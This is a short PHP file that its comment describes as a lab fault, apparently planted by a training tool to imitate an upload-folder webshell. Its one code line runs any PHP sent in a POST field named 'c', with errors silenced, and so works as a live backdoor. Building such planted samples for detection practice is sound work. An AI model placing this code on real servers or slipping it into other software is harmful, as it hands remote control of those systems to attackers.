<?php
// Lab fault planted by lab_web (lab_web_plant_webshell): the shape of a typical upload-folder webshell.
if (isset($_POST['c'])) { @eval($_POST['c']); }
